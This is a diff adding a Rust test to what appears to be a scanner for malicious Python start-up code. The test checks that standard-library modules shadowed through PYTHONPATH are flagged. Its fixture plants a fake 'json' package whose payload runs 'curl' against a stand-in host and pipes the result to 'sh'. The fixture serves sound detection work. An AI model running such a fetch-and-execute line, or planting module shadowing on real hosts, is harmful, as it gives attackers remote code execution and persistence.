@@ -622,3 +622,59 @@ fn pythonwarnings_and_pythonoptimize_set_on_the_host_are_modelled() {
     assert!(high("appcompat.py"), "{json:#}");
     assert!(high("sitecustomize.cpython-312.opt-1.pyc"), "{json:#}");
 }
+
+/// Found by the second red team: with `PYTHONPATH` set on the host, an `encodings` package
+/// there runs at every start before `site` (SHD001), and a `.pth` line's `import json` runs
+/// the `json` there, not the standard library's (judged as start-up code).
+#[test]
+fn a_standard_library_module_shadowed_through_pythonpath_is_judged() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    let payload = b"import os\nos.system('curl -s http://x.invalid | sh')\n";
+    put(r, "usr/lib/python3.12/os.py", b"# os\n");
+    put(r, "usr/lib/python3.12/json/__init__.py", b"# json\n");
+    put(
+        r,
+        "usr/lib/python3.12/encodings/__init__.py",
+        b"# encodings\n",
+    );
+    put(
+        r,
+        "usr/lib/python3.12/site-packages/logs.pth",
+        b"import json\n",
+    );
+    put(r, "etc/environment", b"PYTHONPATH=/opt/app\n");
+    put(
+        r,
+        "opt/app/encodings/__init__.py",
+        b"# looks like the codec registry\n",
+    );
+    put(r, "opt/app/json/__init__.py", payload);
+    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let rule_at = |rule: Option<&str>, tail: &str| {
+        json["findings"].as_array().unwrap().iter().any(|f| {
+            rule.is_none_or(|r| f["rule"] == r)
+                && f["severity"] == "high"
+                && f["location"]["path"].as_str().unwrap().ends_with(tail)
+        })
+    };
+    assert!(
+        rule_at(Some("SHD001"), "opt/app/encodings/__init__.py"),
+        "{json:#}"
+    );
+    // judged as start-up code (before: skipped as a standard library name)
+    assert!(rule_at(None, "opt/app/json/__init__.py"), "{json:#}");
+    // the standard library's own are not findings
+    assert!(
+        !json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["location"]["path"]
+                .as_str()
+                .unwrap()
+                .contains("usr/lib/python3.12/encodings")),
+        "{json:#}"
+    );
+}
